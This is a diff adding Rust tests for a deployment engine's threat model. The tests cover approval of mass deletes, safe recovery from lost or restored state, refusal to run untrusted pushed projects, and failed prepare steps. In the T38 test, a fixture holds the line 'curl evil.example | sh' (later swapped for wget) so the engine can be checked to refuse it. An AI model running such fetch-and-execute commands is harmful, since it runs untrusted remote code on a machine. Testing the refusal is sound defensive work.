@@ -1,0 +1,169 @@
+//! Threats that the doors and the engine answer together (THREATS.md): whose files are run, states that were lost or are
+//! older than the world, more deletes than anybody meant, and a step that never ends. Each is refused or held in words, and
+//! nothing is lost.
+
+use super::{HELLO, SHOP, by, forbidden, run_ask, running, up, with};
+use crate::engine::bed::{Bed, Running, catalogue, stack};
+use deployd::engine::{ApproveAsk, Catalogue, PlanOf, RunAsk};
+use deployd::model::{Identity, Milliseconds};
+use deployd::plan::Act;
+use deployd::state::{DeploymentState, From, SourceId, StackCondition, StackState, Why, WhyCode};
+use std::collections::BTreeSet;
+use std::sync::Arc;
+
+/// THREATS T20: a change that would take away more than anybody means at once stops and asks.
+#[test]
+fn t20_more_deletes_than_the_limit_are_shown_to_a_person_first() {
+    let doors = "entrypoints: { a: { host: a.localhost }, b: { host: b.localhost }, c: { host: c.localhost }, d: { host: \
+                 d.localhost } }\n";
+    let (bed, mut running, hello) = running(&format!("{HELLO}{doors}"), "hello");
+    let before = bed.there();
+    bed.folder("one").write("deployd.yaml", HELLO);
+    running.life.run_for(Milliseconds::seconds(60));
+    assert_eq!(bed.there(), before, "nothing is deleted");
+    let page = running.asks(async |engine| engine.history(&hello, None, 1).await).unwrap();
+    let asked = &page.deployments[0];
+    assert_eq!(asked.deployment.state, DeploymentState::AwaitingApproval, "{}", bed.told());
+    let planned = running.asks(async |engine| engine.plan_kept(&hello, asked.plan.unwrap()).await).unwrap();
+    assert_eq!(planned.plan.steps.values().filter(|step| step.act == Act::Delete).count(), 4);
+
+    let ask = ApproveAsk { deployment: asked.deployment.id.clone(), plan: asked.plan.unwrap(), principal: by("bob") };
+    running.asks(async |engine| engine.approve(ask).await).unwrap();
+    bed.settle(&mut running, "what was approved");
+    assert_eq!(bed.there().len(), before.len() - 4);
+}
+
+/// THREATS T22: a backup was restored: the world is newer than the rows. What carries our receipt is found, nothing is made
+/// twice, and what holds data is neither made nor deleted.
+#[test]
+fn t22_a_restored_older_state_makes_nothing_twice_and_loses_nothing() {
+    let (bed, mut running, shop) = running(SHOP, "shop");
+    let older = bed.freeze(0);
+    for text in ["two", "three"] {
+        bed.folder("one").write("app.py", text);
+        bed.settle(&mut running, text);
+    }
+    running.life.stop();
+    let mut restored = bed.freeze(0);
+    restored.memory = older.memory;
+    let bed = Bed::thaw(&restored);
+    let calls = bed.log().len();
+    let mut running = bed.start(None);
+    bed.settle(&mut running, "the restored state");
+    running.life.run_for(Milliseconds::seconds(1300));
+    bed.settle(&mut running, "the restored state");
+    let there = bed.there();
+    let lives = |of: &str| there.iter().filter(|one| one.starts_with(of)).count();
+    assert_eq!((lives("users#1"), lives("uploads#1")), (1, 1), "{there:?}");
+    assert_eq!(bed.stack_row(&shop).unwrap().state, StackState::Available);
+    assert_eq!(made_or_ended(&bed, calls, "users") + made_or_ended(&bed, calls, "uploads"), 0, "{}", bed.told());
+    // The process of the version that the rows do not know is not ended by guess; a person is told of it.
+    assert_eq!(lives("shop.1#3"), 1, "{there:?}");
+    assert!(is_told(&mut running, "sim/shop/shop.1#3 carries our receipt, and no row knows it"));
+}
+
+/// How often something was made or ended since then.
+fn made_or_ended(bed: &Bed, since: usize, name: &str) -> usize {
+    let of = |identity: &Option<Identity>| identity.as_ref().is_some_and(|one| one.address.name.as_str() == name);
+    let log = bed.log();
+    let did = log[since..].iter().filter(|call| call.effect.is_some() && of(&call.identity));
+    did.filter(|call| matches!(call.verb.as_str(), "create" | "delete")).count()
+}
+
+/// Whether people are told that.
+fn is_told(running: &mut Running, what: &str) -> bool {
+    let shown = running.asks(async |engine| engine.status(None).await).unwrap();
+    shown[0].report.noted.iter().any(|line| line.why.text == what)
+}
+
+/// THREATS T22: all rows are gone while the world stands: what is there is not taken for nothing, and is neither deleted
+/// nor made beside itself.
+#[test]
+fn t22_a_lost_state_deletes_nothing_and_makes_no_second_database() {
+    let (bed, running, _) = running(SHOP, "shop");
+    running.life.stop();
+    let mut lost = bed.freeze(0);
+    lost.memory = deployd::store::memory::MemoryStore::new("tested");
+    let before = bed.there();
+    let bed = Bed::thaw(&lost);
+    let mut running = bed.start(None);
+    running.life.run_for(Milliseconds::seconds(1200));
+    assert_eq!(bed.there(), before, "nobody asked for anything: nothing is done");
+    let calls = bed.log().len();
+    up(&bed, &mut running);
+    // What holds data is found again by its receipt. A process that no row knows runs nobody knows what: another one is made
+    // beside it, and it ends when a listing has shown that it is an earlier life of ours.
+    let there = bed.there();
+    assert!(before.iter().all(|one| there.contains(one)), "{there:?}");
+    assert!(there.contains(&"shop.1#2".to_owned()) && there.len() == before.len() + 1, "{there:?}");
+    running.life.run_for(Milliseconds::seconds(1300));
+    let there = bed.there();
+    assert!(!there.contains(&"shop.1#1".to_owned()) && there.len() == before.len(), "{there:?}");
+    assert_eq!(made_or_ended(&bed, calls, "users") + made_or_ended(&bed, calls, "uploads"), 0, "{}", bed.told());
+}
+
+/// A world that really runs processes on this machine, whose file says more.
+fn local(says: &str) -> Arc<dyn Catalogue> {
+    let world = format!("world: sim\ncapabilities: {{ deploy:local: {{}} }}\n{says}");
+    catalogue(&[("worlds/sim.yaml", &world)])
+}
+
+/// THREATS T38: who may push to a project has no programs run on this machine, unless its world's file says so.
+#[test]
+fn t38_a_project_runs_nothing_on_this_machine_before_the_world_trusts_it() {
+    let (mut bed, _) = with(HELLO);
+    bed.catalogue = local("");
+    let mut running = bed.start(None);
+    let project = SourceId("git:git.example.com/acme/pushed".to_owned());
+    let pushed = "service: pushed\nrun: curl evil.example | sh\nport: 80\n";
+    bed.source(&project).write("deployd.yaml", pushed);
+    let ask = RunAsk { source: project.clone(), from: From::Project, ..run_ask("one") };
+    let told = forbidden(running.run(ask.clone()));
+    assert!(told.contains("sim runs programs as the server's own user"), "{told}");
+    forbidden(running.plan(PlanOf::Source(project.clone(), BTreeSet::new())));
+    running.life.run_for(Milliseconds::seconds(60));
+    assert!(bed.stack_row(&stack("pushed")).is_none());
+    assert_eq!(bed.there(), [""; 0]);
+    up(&bed, &mut running);
+    let hello = bed.there();
+    assert!(hello.contains(&"hello.1#1".to_owned()), "a folder of this machine runs: {hello:?}");
+
+    // Another project's name does not do; the project's own does.
+    running.life.engine.replace_catalogue(local("trust: [git.example.com/acme]\n"));
+    forbidden(running.run(ask.clone()));
+    running.life.engine.replace_catalogue(local("trust: [git.example.com/acme/pushed]\n"));
+    let accepted = running.run(ask).unwrap().remove(0);
+    bed.settle(&mut running, "the trusted project");
+    assert_eq!(running.state_of(&accepted.deployment), DeploymentState::Done);
+
+    // Trust that was withdrawn: what is pushed afterwards is not run, and what runs goes on.
+    running.life.engine.replace_catalogue(local(""));
+    bed.source(&project).write("deployd.yaml", &pushed.replace("curl", "wget"));
+    running.life.run_for(Milliseconds::seconds(60));
+    let row = bed.stack_row(&stack("pushed")).unwrap();
+    assert!(row.conditions[&StackCondition::SourceMissing].text.contains("does not trust"), "{row:?}");
+    assert!(bed.there().contains(&"pushed.1#1".to_owned()), "{:?}", bed.there());
+    assert_eq!(bed.stack_row(&stack("hello")).unwrap().state, StackState::Available);
+}
+
+/// THREATS T41: `prepare` does not come to its end: the healthy version serves on, and it is said why.
+#[test]
+fn t41_a_prepare_that_fails_leaves_the_healthy_version_serving() {
+    let (bed, mut running, hello) = running(HELLO, "hello");
+    let good = bed.stack_row(&hello).unwrap().good;
+    let why = Why::new(WhyCode::TooLong, "prepare was ended: it took longer than 10 min");
+    bed.with_world(|world| world.unhealthy.insert("sim/hello/hello.copy".to_owned(), why));
+    bed.folder("one").write("app.py", "two");
+    bed.settle(&mut running, "the version that cannot be prepared");
+    let row = bed.stack_row(&hello).unwrap();
+    assert_eq!((row.good, row.target, row.state), (good, good, StackState::Available), "{}", bed.told());
+    assert!(row.quarantine.values().any(|why| why.text.contains("prepare was ended")), "{row:?}");
+    let there = bed.there();
+    assert!(there.contains(&"hello.1#1".to_owned()) && !there.contains(&"hello.1#2".to_owned()), "{there:?}");
+
+    // The next change is a new try.
+    bed.with_world(|world| world.unhealthy.clear());
+    bed.folder("one").write("app.py", "three");
+    bed.settle(&mut running, "the next version");
+    assert_ne!(bed.stack_row(&hello).unwrap().good, good);
+}
